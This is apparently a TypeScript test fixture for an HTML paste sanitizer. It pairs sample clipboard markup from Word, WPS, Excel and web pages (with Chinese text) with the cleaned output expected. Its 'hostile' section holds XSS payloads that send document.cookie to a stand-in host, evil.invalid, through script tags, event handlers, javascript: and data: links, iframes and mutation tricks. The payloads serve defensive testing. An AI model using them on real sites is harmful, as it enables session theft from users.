/**
 * What clipboards hold, written by hand after the habits of Word, WPS, spreadsheets and pages, and what is to come of it. Names and
 * places are made up.
 */
export interface Pasted {
  readonly name: string;
  readonly html: string;
  readonly expected: string;
}

const wordHead = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head>
<meta name=Generator content="Microsoft Word 15"><link rel=File-List href="file:///C:/Temp/clip_filelist.xml">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- /* Font Definitions */ @font-face {font-family:仿宋_GB2312;} p.MsoNormal {mso-style-unhide:no;} --></style></head>`;

const item = (words: string, level: number, mark: string) =>
  `<p class=MsoListParagraph style='margin-left:${level * 21}.0pt;text-indent:-21.0pt;mso-list:l0 level${level} lfo1'><![if !supportLists]><span lang=EN-US style='font-family:Wingdings;mso-list:Ignore'>${mark}<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]><span style='font-family:仿宋_GB2312'>${words}</span><o:p></o:p></p>\n`;

export const corpus: readonly Pasted[] = [
  {
    name: 'Word: headings, bold in a style, smart tags, an empty line',
    html: `${wordHead}<body lang=ZH-CN style='text-justify-trim:punctuation'><!--StartFragment-->
<h1 style='mso-style-name:x'><span style='font-family:黑体'>一、课堂场地<o:p></o:p></span></h1>
<p class=MsoNormal style='text-indent:32.0pt;mso-char-indent-count:2.0'><span style='font-size:16.0pt;font-family:仿宋_GB2312;color:#1F4E79'><st1:chsdate w:st="on" Year="2026">9月25日</st1:chsdate>前由<b style='mso-bidi-font-weight:normal'>临溪小学</b>报排班</span><span lang=EN-US><o:p></o:p></span></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoNormal><span style='font-weight:bold'>注意</span>：<i>安全</i></p><!--EndFragment--></body></html>`,
    expected:
      '<h1>一、课堂场地</h1><p>9月25日前由<strong>临溪小学</strong>报排班</p><p><strong>注意</strong>：<em>安全</em></p>',
  },
  {
    name: 'Word: a numbered list with bullets inside it',
    html: `${wordHead}<body>${item('先登记', 1, '1.')}${item('带证件', 2, 'l')}${item('留电话', 2, 'l')}${item('再入校', 1, '2.')}<p class=MsoNormal>完</p></body></html>`,
    expected:
      '<ol><li><p>先登记</p><ul><li><p>带证件</p></li><li><p>留电话</p></li></ul></li><li><p>再入校</p></li></ol><p>完</p>',
  },
  {
    name: 'Word: a table with merged cells, a heading and a table within it',
    html: `${wordHead}<body><table class=MsoTableGrid border=1 style='border-collapse:collapse;mso-yfti-tbllook:1184'><tr style='mso-yfti-irow:0'><td width=208 colspan=2 style='width:155.6pt'><h2>分工</h2></td></tr><tr><td><p class=MsoNormal>物业</p></td><td><table><tr><td>平日</td><td>晚</td></tr></table></td></tr></table></body></html>`,
    expected:
      '<table><tr><td colspan=2><p><strong>分工</strong></p></td></tr><tr><td><p>物业</p></td><td><p>平日 晚</p></td></tr></table>',
  },
  {
    name: 'WPS: Chinese numerals, hidden words, a comment, a font element',
    html: `<html><head><meta name="Generator" content="WPS Office"></head><body><!--StartFragment-->
<p class="MsoNormal" style="mso-list:l1 level1 lfo2;"><![if !supportLists]><span style="mso-list:Ignore;">一、</span><![endif]><font face="宋体">开放时间</font></p>
<p class="MsoNormal" style="mso-list:l1 level1 lfo2;"><![if !supportLists]><span style="mso-list:Ignore;">二、</span><![endif]><span style="mso-spacerun:'yes';font-family:宋体;">看护</span><span style="mso-hide:all;">内部备注</span></p>
<p class="MsoNormal"><span style="mso-comment-continuation:1"><strong>其他</strong></span></p><!--EndFragment--></body></html>`,
    expected: '<ol><li><p>开放时间</p></li><li><p>看护</p></li></ol><p><strong>其他</strong></p>',
  },
  {
    name: 'Excel: cells, a hidden row, merged rows',
    html: `<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta name=ProgId content=Excel.Sheet><style>.xl65{mso-number-format:"\\@";}</style></head><body link="#0563C1"><table border=0 cellpadding=0 cellspacing=0 width=216><!--StartFragment--><col width=72 span=3><tr height=19><td height=19 class=xl65 rowspan=2 width=72>临溪小学</td><td x:num="40">40</td></tr><tr style="display:none"><td>草稿</td></tr><tr><td>12</td></tr><!--EndFragment--></table></body></html>`,
    expected: '<table><tr><td rowspan=2><p>临溪小学</p></td><td><p>40</p></td></tr><tr><td><p>12</p></td></tr></table>',
  },
  {
    name: 'A page: sections, a list in a list beside its entry, line breaks, a link, pictures from elsewhere',
    html: `<meta charset='utf-8'><div class="article" style="color: rgb(51, 51, 51); background: url(https://tracker.invalid/a.png)"><section><h4>通知</h4><div>各单位：<br>请于<a href="https://example.org/notice?id=3" onclick="track()">通知页</a>报名。</div><img src="https://tracker.invalid/pixel.gif" alt="x"></section><ol start="3"><li>报名</li><ol><li>学校</li></ol><li>核对</li></ol><blockquote>以上</blockquote></div>`,
    expected:
      '<h3>通知</h3><p>各单位：<br>请于<a href=https://example.org/notice?id=3>通知页</a>报名。</p><ol start=3><li><p>报名</p><ol><li><p>学校</p></li></ol></li><li><p>核对</p></li></ol><p>以上</p>',
  },
  {
    name: 'A web office: a bold element that is not bold around it all',
    html: `<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr"><span style="font-weight:400">一般</span><span style="font-weight:700">要紧</span></p></b>`,
    expected: '<p>一般<strong>要紧</strong></p>',
  },
];

const steal = "globalThis.pwned=1;new Image().src='https://evil.invalid/'+document.cookie";

export const hostile: readonly Pasted[] = [
  {
    name: 'scripts and handlers',
    html: `<script>${steal}</script><p onclick="${steal}" onmouseover="${steal}">甲<img src=x onerror="${steal}"></p><svg onload="${steal}"><script>${steal}</script></svg><math><mtext><img src=x onerror="${steal}"></mtext></math>`,
    expected: '<p>甲</p>',
  },
  {
    name: 'addresses that run',
    html: `<p><a href="javascript:${steal}">一</a><a href="JaVa&#09;script:${steal}">二</a><a href="data:text/html,<script>${steal}</script>">三</a><a href="vbscript:x">四</a><a href="//evil.invalid/x">五</a></p>`,
    expected: '<p>一二三四五</p>',
  },
  {
    name: 'what loads or frames another page',
    html: `<iframe src="https://evil.invalid/" srcdoc="<script>${steal}</script>"></iframe><object data="https://evil.invalid/x.swf"></object><embed src="https://evil.invalid/y"><link rel=stylesheet href="https://evil.invalid/z.css"><style>@import url(https://evil.invalid/a.css);p{background:url(https://evil.invalid/b)}</style><video poster="https://evil.invalid/c" autoplay src="https://evil.invalid/d"></video><base href="https://evil.invalid/"><meta http-equiv=refresh content="0;url=https://evil.invalid/"><form action="https://evil.invalid/e"><input autofocus onfocus="${steal}"></form><p style="background-image:url(https://evil.invalid/f)">乙</p>`,
    expected: '<p>乙</p>',
  },
  {
    name: 'mutation: markup hidden in attributes and elements that are parsed otherwise',
    html: `<noscript><p title="</noscript><img src=x onerror=${steal}>">丙</p></noscript><template><img src=x onerror="${steal}"></template><p>丁</p>`,
    expected: '<p>丙</p><p>丁</p>',
  },
  {
    name: 'forged names and pictures of ours',
    html: `<p>戊<span data-mention="resident" data-id="r1">居民</span><span data-mention="unit" data-id="u1" onclick="${steal}">学校</span></p><figure data-picture="https://evil.invalid/p.png"><figcaption>图</figcaption></figure>`,
    expected: '<p>戊居民<span>学校</span></p><p>图</p>',
  },
  {
    name: 'values that no list, name or picture can have, and that the relay would refuse',
    html: `<ol start="-3"><li>己</li></ol><p><span data-mention="unit" data-id="&lt;b&gt;">学校</span><a href="https://example.org/${'x'.repeat(2_100)}">长</a></p>`,
    expected: '<ol><li><p>己</p></li></ol><p>学校长</p>',
  },
];
